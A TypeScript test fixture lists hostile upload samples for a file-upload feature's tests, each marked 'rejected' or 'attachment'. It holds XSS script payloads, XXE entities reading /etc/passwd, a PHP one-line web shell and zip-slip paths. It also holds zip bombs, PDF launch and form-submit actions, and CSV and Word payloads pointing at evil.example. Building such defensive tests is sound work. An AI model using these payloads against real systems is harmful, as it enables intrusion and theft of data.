/** Contents that do not match their name, or that abuse features of their format. */
import { compound, heic, jpeg, mp4, office, pdf, png, rtf, zip } from '../../apps/api/src/features/files/tests/samples';
import { archive, bomb, joined, pdfThat, text, utf16, word } from './bytes';
import type { HostileFile } from './file';

const page = '<!doctype html><script>alert(1)</script>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const gifScript = 'GIF89a/*\u0001\u0000*/=1;alert(1)//';

const lies: HostileFile[] = [
  { what: 'HTML as PNG', name: 'a.png', bytes: text(page) },
  { what: 'HTML as JPEG', name: 'a.jpg', bytes: text(page) },
  { what: 'HTML as PDF', name: 'a.pdf', bytes: text(page) },
  { what: 'HTML before a PDF', name: 'a.pdf', bytes: joined(page, pdf) },
  { what: 'HTML as a table', name: 'a.csv', bytes: text(page) },
  { what: 'HTML behind blank lines', name: 'a.txt', bytes: text(`\uFEFF \r\n\t${page}`) },
  { what: 'HTML behind a comment', name: 'a.txt', bytes: text(`<!-- -->${page}`) },
  { what: 'HTML in UTF-16', name: 'a.txt', bytes: utf16(page) },
  { what: 'SVG as PNG', name: 'a.png', bytes: text(svg) },
  { what: 'SVG as text', name: 'a.txt', bytes: text(svg) },
  { what: 'XML with an entity as text', name: 'a.txt', bytes: text('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>') },
  { what: 'a GIF that is a script, as PNG', name: 'a.png', bytes: text(gifScript) },
  { what: 'a GIF that is a script, as text', name: 'a.txt', bytes: text(gifScript) },
  { what: 'the first bytes of a PNG, then a page', name: 'a.png', bytes: joined(png().subarray(0, 8), page) },
  { what: 'the first bytes of a JPEG, then a page', name: 'a.jpg', bytes: joined(Buffer.from([0xff, 0xd8, 0xff]), page) },
  { what: 'a PHP script as JPEG', name: 'shell.php.jpg', bytes: text('<?php system($_GET[0]); ?>') },
  { what: 'a program for Windows as PDF', name: 'a.pdf', bytes: text('MZ\u0000') },
  { what: 'a program for Linux as text', name: 'a.txt', bytes: joined(Buffer.from([0x7f]), 'ELF\u0002\u0001') },
  { what: 'NUL bytes in text', name: 'a.csv', bytes: text('a,b\u0000c') },
  { what: 'escape sequences of a terminal in text', name: 'a.txt', bytes: text('a\u001B]0;x\u0007') },
  { what: 'macros in a document', name: 'a.docx', bytes: office('word', 'word/vbaProject.bin') },
  { what: 'macros in a spreadsheet', name: 'a.xlsx', bytes: office('xl', 'xl/VBAPROJECT.BIN') },
  { what: 'an archive as document', name: 'a.docx', bytes: zip('a.exe') },
  { what: 'a spreadsheet as document', name: 'a.docx', bytes: office('xl') },
  { what: 'a program in front of an archive', name: 'a.zip', bytes: joined('MZ', zip('a')) },
  { what: 'an installer as document', name: 'a.doc', bytes: compound('!_StringData') },
  { what: 'a film as picture', name: 'a.heic', bytes: mp4 },
  { what: 'a picture as film', name: 'a.mp4', bytes: heic },
  { what: 'a PNG of 3,600,000,000 pixels', name: 'a.png', bytes: png(60_000, 60_000) },
  { what: 'a PNG of 2^62 pixels', name: 'a.png', bytes: png(0x7fffffff, 0x7fffffff) },
  { what: 'a JPEG of 4,294,836,225 pixels', name: 'a.jpg', bytes: jpeg(65_535, 65_535) },
  { what: 'one byte', name: 'a.png', bytes: text('a') },
].map((file) => ({ ...file, outcome: 'rejected' }));

/** Features of allowed formats. The product stores such a file and never opens it. */
const withinTheirFormat: HostileFile[] = [
  { what: 'a PDF with JavaScript', name: 'a.pdf', bytes: pdfThat('/S/JavaScript/JS(app.alert\\(1\\))') },
  { what: 'a PDF that starts a program', name: 'a.pdf', bytes: pdfThat('/S/Launch/F(calc.exe)') },
  { what: 'a PDF that sends a form', name: 'a.pdf', bytes: pdfThat('/S/SubmitForm/F(https://evil.example)') },
  { what: 'a PNG with a page behind it', name: 'a.png', bytes: joined(png(), page) },
  { what: 'a PNG that is an archive as well', name: 'a.png', bytes: joined(png(), zip('page.html')) },
  { what: 'a JPEG with a page behind it', name: 'a.jpg', bytes: joined(jpeg(), page) },
  { what: 'a PDF with a page behind it', name: 'a.pdf', bytes: joined(pdf, page) },
  { what: 'an archive that unpacks to many megabytes', name: 'a.zip', bytes: bomb('0', '1', '2') },
  { what: 'an archive in archives', name: 'a.zip', bytes: archive([{ name: 'a.zip', content: bomb('0') }]) },
  { what: 'an archive of paths that lead out', name: 'a.zip', bytes: zip('../../etc/cron.d/x', '/etc/passwd', 'C:\\x') },
  { what: 'a document that unpacks to many megabytes', name: 'a.docx', bytes: bomb('[Content_Types].xml', 'word/document.xml') },
  { what: 'a document with a template elsewhere', name: 'a.docx', bytes: word('<w:attachedTemplate target="https://evil.example"/>') },
  { what: 'a document with an external entity', name: 'a.docx', bytes: word('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>') },
  { what: 'RTF with an object', name: 'a.rtf', bytes: joined(rtf, '{\\object\\objautlink\\objupdate}') },
  { what: 'a table with formulas', name: 'a.csv', bytes: text('=HYPERLINK("https://evil.example"),+1,@SUM(1),-2\n') },
  { what: 'a page in UTF-7', name: 'a.txt', bytes: text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-') },
  { what: 'a page behind a word', name: 'a.txt', bytes: text(`see ${page}`) },
  { what: 'a script', name: 'a.txt', bytes: text('alert(document.domain)') },
  {
    what: 'text like the test pattern of virus scanners',
    name: 'a.txt',
    bytes: text(['X5O!P%@AP', 'NOT-THE-STANDARD-TEST-FILE'].join('$')),
  },
].map((file) => ({ ...file, outcome: 'attachment' }));

export const hostileContents: readonly HostileFile[] = [...lies, ...withinTheirFormat];
